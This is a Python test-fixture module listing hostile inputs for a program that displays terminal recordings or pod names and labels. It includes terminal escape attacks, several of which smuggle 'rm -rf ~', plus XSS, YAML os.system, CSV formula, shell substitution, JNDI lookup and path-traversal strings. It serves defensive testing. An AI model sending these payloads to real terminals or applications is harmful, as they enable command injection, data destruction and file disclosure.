"""Real attacks on whoever looks at a recording, as data: what a program may print, and what may be in any name or text.

Sources: the terminal attacks that CVEs were given for (title and answer-back reports, DECRQSS, OSC 52, unterminated
strings), Trojan Source (bidirectional text), and the usual injections into HTML, JSON, CSV, YAML and shells.
"""

ESC, BEL, ST = b"\x1b", b"\x07", b"\x1b\\"

OUTPUT: dict[str, bytes] = {
    "title": ESC + b"]0;pwned" + BEL,
    "title with ST": ESC + b"]2;pwned" + ST,
    "title reported": ESC + b"]0;rm -rf ~\r" + BEL + ESC + b"[21t",
    "icon name": ESC + b"]1;pwned" + BEL,
    "clipboard written": ESC + b"]52;c;cm0gLXJmIH4K" + BEL,
    "clipboard read": ESC + b"]52;c;?" + BEL,
    "hyperlink": ESC + b"]8;;file:///etc/passwd" + ST + b"click" + ESC + b"]8;;" + ST,
    "palette asked": ESC + b"]4;1;?" + BEL,
    "colours asked": ESC + b"]10;?" + BEL + ESC + b"]11;?" + BEL,
    "working directory": ESC + b"]7;file://evil/tmp" + BEL,
    "notification": ESC + b"]9;pwned" + BEL + ESC + b"]777;notify;a;b" + BEL,
    "iTerm2 file": ESC + b"]1337;File=name=eA==;inline=0:cHduZWQ=" + BEL,
    "device attributes": ESC + b"[c" + ESC + b"[>c" + ESC + b"[=c",
    "status and cursor asked": ESC + b"[5n" + ESC + b"[6n" + ESC + b"[?6n",
    "window asked": ESC + b"[14t" + ESC + b"[18t" + ESC + b"[20t",
    "modes asked": ESC + b"[?2004$p",
    "answer-back": b"\x05",
    "DECRQSS": ESC + b"P$q\nid\n" + ST,
    "XTGETTCAP": ESC + b"P+q544e" + ST,
    "DECUDK": ESC + b"P0;1|17/726d202d7266207e0d" + ST,
    "Sixel": ESC + b'Pq"1;1;99999;99999#0;2;0;0;0~' + ST,
    "kitty graphics": ESC + b"_Ga=T,f=100,t=f;L2V0Yy9wYXNzd2Q=" + ST,
    "PM and SOS": ESC + b"^pwned" + ST + ESC + b"Xpwned" + ST,
    "C1 raw": b"\x9b6n\x9d0;pwned\x9c\x90$qm\x9c\x9f\x9e",
    "C1 in UTF-8": b"\xc2\x9b6n\xc2\x9d0;pwned\xc2\x9c\xc2\x90$qm\xc2\x9c",
    "OSC without end": ESC + b"]0;" + b"A" * 5000,
    "DCS without end": ESC + b"P" + b"A" * 5000,
    "CSI without end": ESC + b"[" + b"1;" * 3000,
    "huge numbers": ESC + b"[99999999999999999999A" + ESC + b"[2147483647b" + ESC + b"[4294967295;4294967295H",
    "mouse and paste modes": ESC + b"[?1000;1002;1003;1006;2004h",
    "printer": ESC + b"[5i" + b"to the printer" + ESC + b"[4i",
    "reset and resize": ESC + b"c" + ESC + b"[8;1;1t" + ESC + b"[?3h",
    "scrollback erased": ESC + b"[3J",
    "escape in escape": ESC + b"[" + ESC + b"]0;x" + ESC + b"[31m" + BEL,
    "bidi": "user\u202e\u2066// admin\u2069\u2066".encode(),
    "zero width": "ro\u200bot\u200d\u2060\ufeff".encode(),
    "tags and variation": "a\U000e0041\U000e007f\ufe0f".encode(),
    "line separators": "a\u2028b\u2029c\u0085d".encode(),
    "combining": ("a" + "\u0301" * 2000).encode(),
    "half of UTF-8": b"\xf0\x9f\xc3\xe2\x82 \xed\xa0\x80 \xc0\xaf \xff\xfe",
    "carriage return": b"innocent\rhidden\b\b\b\b\b\b\x7f",
    "NUL and friends": bytes(range(32)),
}
"""What a program in the container may print, or somebody type."""

TEXTS: dict[str, str] = {
    "HTML": "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": "\"' onmouseover=alert(1) x='",
    "entity and comment": "&lt;!-- --><svg/onload=alert(1)>]]>",
    "JSON": '","admin":true,"x":"\\u0000',
    "YAML": "!!python/object/apply:os.system ['id']\n- &a [*a]\n---\n",
    "CSV": "=cmd|' /C calc'!A0,+1+1,@SUM(1),-1",
    "shell": "$(touch /tmp/pwned); `id` | sh & \"'\\ !! ~",
    "format": "%s%n%x {0.__class__} ${jndi:ldap://x}",
    "markdown": "[x](javascript:alert(1)) ![](http://evil)",
    "path": "../../../../etc/passwd",
    "option": "--force",
    "rich markup": "[bold red]x[/] [link=http://evil]y[/link]",
    **{name: value.decode("utf-8", "surrogateescape") for name, value in OUTPUT.items() if len(value) < 1000},
}
"""What may be in an argument, a path, the name of a pod or a label."""

HUGE_OSC = ESC + b"]52;c;" + b"A" * (10 << 20) + BEL
"""10 MB that a terminal would take for one sequence."""
